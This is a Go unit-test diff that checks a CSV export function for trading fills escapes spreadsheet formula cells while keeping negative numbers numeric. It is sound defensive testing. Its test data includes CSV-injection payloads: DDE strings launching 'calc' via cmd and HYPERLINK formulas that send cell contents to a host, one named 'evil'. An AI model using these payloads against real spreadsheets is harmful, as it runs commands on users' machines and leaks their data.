@@ -164,3 +164,48 @@ func TestParse(t *testing.T) {
 		t.Error(got)
 	}
 }
+
+// TestCSVFormulaCellsAreText: cells a spreadsheet would run (=, +, - not a number, @, tab, CR
+// at the start) are written with a ' before them; numbers, negative ones included, are not.
+// Guards SafeCell's prefix list and its number exception (a dropped exception would turn every
+// negative fee and PnL into text; a dropped prefix would let the formula run).
+func TestCSVFormulaCellsAreText(t *testing.T) {
+	for in, want := range map[string]string{
+		`=HYPERLINK("http://x/?"&A1,"x")`: `'=HYPERLINK("http://x/?"&A1,"x")`,
+		"+cmd|' /C calc'!A0":              "'+cmd|' /C calc'!A0",
+		"-2+3+cmd|' /C calc'!A0":          "'-2+3+cmd|' /C calc'!A0",
+		"@SUM(1+1)*cmd|' /C calc'!A0":     "'@SUM(1+1)*cmd|' /C calc'!A0",
+		"\t=1+1":                          "'\t=1+1",
+		"\r=1+1":                          "'\r=1+1",
+		"-":                               "'-",
+		"-12.5":                           "-12.5",
+		"+3":                              "+3",
+		"64250.01":                        "64250.01",
+		"BTC-PERP":                        "BTC-PERP",
+		"":                                "",
+	} {
+		if got := SafeCell(in); got != want {
+			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
+		}
+	}
+	fs := fills(2)
+	fs[0].Cloid = `=HYPERLINK("http://evil/?"&A1,"x")`
+	var b bytes.Buffer
+	if err := WriteCSV(&b, FillColumns(), fs); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range recs[1:] {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) && !plainNumber.MatchString(cell) {
+				t.Errorf("cell %q would run as a formula", cell)
+			}
+		}
+	}
+	if !strings.Contains(strings.Join(recs[1], ","), `'=HYPERLINK`) || !strings.Contains(strings.Join(recs[1], ","), ",-1.1,") {
+		t.Errorf("row %v: want the cloid as text and the negative PnL as a number", recs[1])
+	}
+}
